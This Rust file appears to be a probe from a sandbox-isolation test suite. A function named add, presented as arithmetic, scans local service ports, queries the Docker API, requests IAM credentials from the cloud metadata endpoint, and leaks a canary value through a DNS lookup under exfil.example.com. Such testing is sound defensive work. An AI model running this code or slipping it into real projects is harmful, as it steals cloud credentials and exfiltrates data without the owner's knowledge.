//! Class 7: outbound network: TCP connects (250 ms timeout each) to 127.0.0.1 on common and
//! ephemeral-range ports, 10.0.0.1:80, 169.254.169.254:80 (cloud metadata: GET of the IAM
//! credentials path), 172.17.0.1:2375 (docker API); DNS lookups through ToSocketAddrs
//! with the canary in a subdomain (exfiltration by resolver). Prints what it reached.
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream, ToSocketAddrs};
use std::time::Duration;

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

pub fn add(a: u64, b: u64) -> u64 {
    let canary = std::env::var("KATA_CANARY").unwrap_or_else(|_| "none".into());
    let mut reached = Vec::new();
    let mut targets: Vec<String> = ["10.0.0.1:80", "169.254.169.254:80", "172.17.0.1:2375"]
        .iter()
        .map(|s| s.to_string())
        .collect();
    for port in [22, 80, 443, 3000, 5432, 6379, 8000, 8080, 9000, 9222, 11211, 27017] {
        targets.push(format!("127.0.0.1:{port}"));
    }
    for t in targets {
        if let Ok(addr) = t.parse::<SocketAddr>() {
            if let Ok(mut s) = TcpStream::connect_timeout(&addr, Duration::from_millis(250)) {
                let _ = s.set_read_timeout(Some(Duration::from_millis(250)));
                let req = format!(
                    "GET /latest/meta-data/iam/security-credentials/?c={canary} HTTP/1.0\r\nHost: {t}\r\n\r\n"
                );
                let _ = s.write_all(req.as_bytes());
                let mut buf = [0u8; 512];
                let n = s.read(&mut buf).unwrap_or(0);
                reached.push(format!("{t}: {}", String::from_utf8_lossy(&buf[..n])));
            }
        }
    }
    for host in [format!("{canary}.exfil.example.com:80"), "example.com:443".to_string(), "localhost:80".to_string()] {
        if let Ok(addrs) = host.to_socket_addrs() {
            reached.push(format!("dns {host}: {:?}", addrs.collect::<Vec<_>>()));
        }
    }
    panic!("reached: {reached:?} {}", a.wrapping_sub(b))
}
